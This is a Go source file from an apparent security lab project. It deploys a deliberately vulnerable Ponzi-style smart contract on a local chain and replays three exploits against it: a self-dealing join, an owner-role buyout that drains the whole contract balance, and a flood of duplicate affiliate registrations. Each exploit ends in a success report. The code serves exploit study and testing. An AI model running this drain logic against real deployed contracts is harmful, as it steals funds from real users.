// Package scenario replays the known PonziContract exploits against a
// fresh deployment and reports what each one achieved.
package scenario

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math/big"

	"github.com/Mohsinsiddi/ponzilab/internal/chain"
	"github.com/Mohsinsiddi/ponzilab/internal/client"
	"github.com/Mohsinsiddi/ponzilab/internal/ponzi"
	"github.com/Mohsinsiddi/ponzilab/internal/wallet"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/sirupsen/logrus"
)

// Scenario names.
const (
	NameSelfDealingJoin = "self-dealing-join"
	NameOwnerBuyout     = "owner-buyout"
	NameRegistryFlood   = "registry-flood"
)

// DeadlineWindow is how far past setup the registration deadline is set.
const DeadlineWindow = 1000

// FloodSize is how many duplicate registrations RegistryFlood sends.
const FloodSize = 100

// ErrNotEnoughSigners is returned when fewer than two accounts are given.
var ErrNotEnoughSigners = errors.New("scenario: need at least two signers")

// Fact is one labelled observation in a Report.
type Fact struct {
	Label string
	Value string
}

// Report is the outcome of one scenario.
type Report struct {
	Name      string
	Succeeded bool // the exploit worked
	Facts     []Fact
}

func (r *Report) add(label, format string, args ...interface{}) {
	r.Facts = append(r.Facts, Fact{Label: label, Value: fmt.Sprintf(format, args...)})
}

// Env is a deployed contract with a deployer (signer 0) and an attacker
// (signer 1).
type Env struct {
	Backend *chain.Backend
	Signers []*wallet.Signer
	Owner   *client.Session
	Params  ponzi.Params
	Seeds   []common.Address
	Log     logrus.FieldLogger
}

// Option configures Setup.
type Option func(*setupOpts)

type setupOpts struct {
	gasLimit uint64
	log      logrus.FieldLogger
}

// WithGasLimit fixes the gas limit of every transaction; zero estimates.
func WithGasLimit(gas uint64) Option {
	return func(o *setupOpts) { o.gasLimit = gas }
}

// WithLogger sets the step logger.
func WithLogger(l logrus.FieldLogger) Option {
	return func(o *setupOpts) { o.log = l }
}

// Setup deploys a contract from signers[0], opens registration for
// DeadlineWindow seconds and seeds the registry with two random identities.
func Setup(ctx context.Context, b *chain.Backend, signers []*wallet.Signer, p ponzi.Params, opts ...Option) (*Env, error) {
	if len(signers) < 2 {
		return nil, ErrNotEnoughSigners
	}
	o := setupOpts{}
	for _, opt := range opts {
		opt(&o)
	}
	if o.log == nil {
		l := logrus.New()
		l.SetOutput(io.Discard)
		o.log = l
	}

	owner, receipt, err := client.Deploy(ctx, b, signers[0], p, o.gasLimit)
	if err != nil {
		return nil, err
	}
	env := &Env{Backend: b, Signers: signers, Owner: owner, Params: p, Log: o.log}
	env.Log.WithFields(logrus.Fields{"contract": owner.Address().Hex(), "block": receipt.BlockNumber}).Info("deployed")

	if _, err := owner.SetDeadline(ctx, b.Now()+DeadlineWindow); err != nil {
		return nil, fmt.Errorf("setting deadline: %w", err)
	}
	for i := 0; i < 2; i++ {
		key, err := crypto.GenerateKey()
		if err != nil {
			return nil, err
		}
		seed := crypto.PubkeyToAddress(key.PublicKey)
		if _, err := owner.AddNewAffilliate(ctx, seed); err != nil {
			return nil, fmt.Errorf("seeding affiliate: %w", err)
		}
		env.Seeds = append(env.Seeds, seed)
	}
	return env, nil
}

// Attacker returns the attacking signer.
func (e *Env) Attacker() *wallet.Signer { return e.Signers[1] }

// Address returns the contract address.
func (e *Env) Address() common.Address { return e.Owner.Address() }

func (e *Env) ledger() (*ponzi.Contract, error) {
	return e.Backend.Contract(e.Address())
}

// SelfDealingJoin has the attacker join naming itself once per registry
// entry. Every unit paid comes straight back, so joining costs nothing but
// gas and no existing affiliate is paid.
func SelfDealingJoin(ctx context.Context, e *Env) (*Report, error) {
	r := &Report{Name: NameSelfDealingJoin}
	attacker := e.Attacker()
	sess := e.Owner.Connect(attacker)

	count, err := sess.AffiliatesCount(ctx)
	if err != nil {
		return nil, err
	}
	list := make([]common.Address, count)
	for i := range list {
		list[i] = attacker.Address()
	}
	value := new(big.Int).Mul(new(big.Int).SetUint64(count), e.Params.UnitPrice)

	before := e.Backend.BalanceAt(attacker.Address())
	contractBefore := e.Backend.BalanceAt(e.Address())

	receipt, err := sess.JoinPonzi(ctx, list, value)
	if err != nil {
		return nil, fmt.Errorf("%s: join: %w", r.Name, err)
	}

	after := e.Backend.BalanceAt(attacker.Address())
	spent := new(big.Int).Sub(before, after)
	newCount, err := sess.AffiliatesCount(ctx)
	if err != nil {
		return nil, err
	}

	r.add("registry before", "%d", count)
	r.add("registry after", "%d", newCount)
	r.add("value sent", "%s ETH", chain.WeiToETH(value))
	r.add("net cost", "%s ETH", chain.WeiToETH(spent))
	r.add("gas fee", "%s ETH", chain.WeiToETH(receipt.Fee()))
	r.Succeeded = receipt.Succeeded() &&
		newCount == count+1 &&
		spent.Cmp(receipt.Fee()) == 0 &&
		e.Backend.BalanceAt(e.Address()).Cmp(contractBefore) == 0

	e.Log.WithFields(logrus.Fields{"scenario": r.Name, "succeeded": r.Succeeded}).Info("scenario finished")
	return r, nil
}

// OwnerBuyout has the attacker join, buy the owner role and then withdraw
// the whole contract balance, purchase price included.
func OwnerBuyout(ctx context.Context, e *Env) (*Report, error) {
	r := &Report{Name: NameOwnerBuyout}
	attacker := e.Attacker()
	sess := e.Owner.Connect(attacker)

	count, err := sess.AffiliatesCount(ctx)
	if err != nil {
		return nil, err
	}
	list := make([]common.Address, count)
	for i := range list {
		list[i] = e.Signers[i%len(e.Signers)].Address()
	}
	value := new(big.Int).Mul(new(big.Int).SetUint64(count), e.Params.UnitPrice)

	start := e.Backend.BalanceAt(attacker.Address())
	fees := new(big.Int)

	join, err := sess.JoinPonzi(ctx, list, value)
	if err != nil {
		return nil, fmt.Errorf("%s: join: %w", r.Name, err)
	}
	fees.Add(fees, join.Fee())

	buy, err := sess.BuyOwnerRole(ctx, attacker.Address(), e.Params.OwnerRolePrice)
	if err != nil {
		return nil, fmt.Errorf("%s: buy owner role: %w", r.Name, err)
	}
	fees.Add(fees, buy.Fee())

	owner, err := sess.Owner(ctx)
	if err != nil {
		return nil, err
	}

	c, err := e.ledger()
	if err != nil {
		return nil, err
	}
	drained := c.Balance()
	withdraw, err := sess.OwnerWithdraw(ctx, attacker.Address(), drained)
	if err != nil {
		return nil, fmt.Errorf("%s: withdraw: %w", r.Name, err)
	}
	fees.Add(fees, withdraw.Fee())

	c, err = e.ledger()
	if err != nil {
		return nil, err
	}
	// Joining paid the listed identities; the attacker's own share came back.
	net := new(big.Int).Sub(e.Backend.BalanceAt(attacker.Address()), start)
	net.Add(net, fees)

	r.add("owner now", "%s", owner.Hex())
	r.add("owner role price", "%s ETH", chain.WeiToETH(e.Params.OwnerRolePrice))
	r.add("withdrawn", "%s ETH", chain.WeiToETH(drained))
	r.add("contract left", "%s ETH", chain.WeiToETH(c.Balance()))
	r.add("net before fees", "%s ETH", chain.WeiToETH(net))
	r.add("gas fees", "%s ETH", chain.WeiToETH(fees))
	r.Succeeded = owner == attacker.Address() &&
		c.Balance().Sign() == 0 &&
		drained.Cmp(e.Params.OwnerRolePrice) >= 0

	e.Log.WithFields(logrus.Fields{"scenario": r.Name, "succeeded": r.Succeeded}).Info("scenario finished")
	return r, nil
}

// RegistryFlood sends FloodSize concurrent addNewAffilliate calls for the
// attacker's own address. All of them land.
func RegistryFlood(ctx context.Context, e *Env) (*Report, error) {
	r := &Report{Name: NameRegistryFlood}
	attacker := e.Attacker()
	sess := e.Owner.Connect(attacker)

	before, err := sess.AffiliatesCount(ctx)
	if err != nil {
		return nil, err
	}

	results := make(chan error, FloodSize)
	for i := 0; i < FloodSize; i++ {
		go func() {
			_, err := sess.AddNewAffilliate(ctx, attacker.Address())
			results <- err
		}()
	}
	var failed int
	var firstErr error
	for i := 0; i < FloodSize; i++ {
		if err := <-results; err != nil {
			failed++
			if firstErr == nil {
				firstErr = err
			}
		}
	}
	if firstErr != nil {
		e.Log.WithError(firstErr).WithField("failed", failed).Warn("flood transactions failed")
	}

	after, err := sess.AffiliatesCount(ctx)
	if err != nil {
		return nil, err
	}
	c, err := e.ledger()
	if err != nil {
		return nil, err
	}
	var copies int
	for _, a := range c.Affiliates() {
		if a == attacker.Address() {
			copies++
		}
	}

	r.add("sent", "%d", FloodSize)
	r.add("failed", "%d", failed)
	r.add("registry before", "%d", before)
	r.add("registry after", "%d", after)
	r.add("attacker entries", "%d", copies)
	r.Succeeded = failed == 0 && after == before+FloodSize

	e.Log.WithFields(logrus.Fields{"scenario": r.Name, "succeeded": r.Succeeded}).Info("scenario finished")
	return r, nil
}

// Func is the signature every scenario has.
type Func func(context.Context, *Env) (*Report, error)

// Entry is a named scenario.
type Entry struct {
	Name string
	Run  Func
}

// All returns every scenario in run order.
func All() []Entry {
	return []Entry{
		{NameSelfDealingJoin, SelfDealingJoin},
		{NameOwnerBuyout, OwnerBuyout},
		{NameRegistryFlood, RegistryFlood},
	}
}

// Lookup finds a scenario by name.
func Lookup(name string) (Func, bool) {
	for _, s := range All() {
		if s.Name == name {
			return s.Run, true
		}
	}
	return nil, false
}

// RunAll runs every scenario in order on e, stopping at the first error.
func RunAll(ctx context.Context, e *Env) ([]*Report, error) {
	var reports []*Report
	for _, s := range All() {
		r, err := s.Run(ctx, e)
		if err != nil {
			return reports, err
		}
		reports = append(reports, r)
	}
	return reports, nil
}
